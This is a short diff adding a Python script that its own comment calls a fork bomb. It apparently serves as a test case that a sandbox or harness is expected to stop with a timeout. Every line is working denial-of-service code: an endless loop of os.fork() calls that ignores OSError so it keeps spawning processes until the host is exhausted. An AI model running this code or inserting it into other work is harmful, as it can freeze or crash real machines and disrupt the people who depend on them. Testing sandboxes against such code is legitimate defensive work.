@@ -1,0 +1,8 @@
+# timeout: fork bomb that goes on after every failure
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
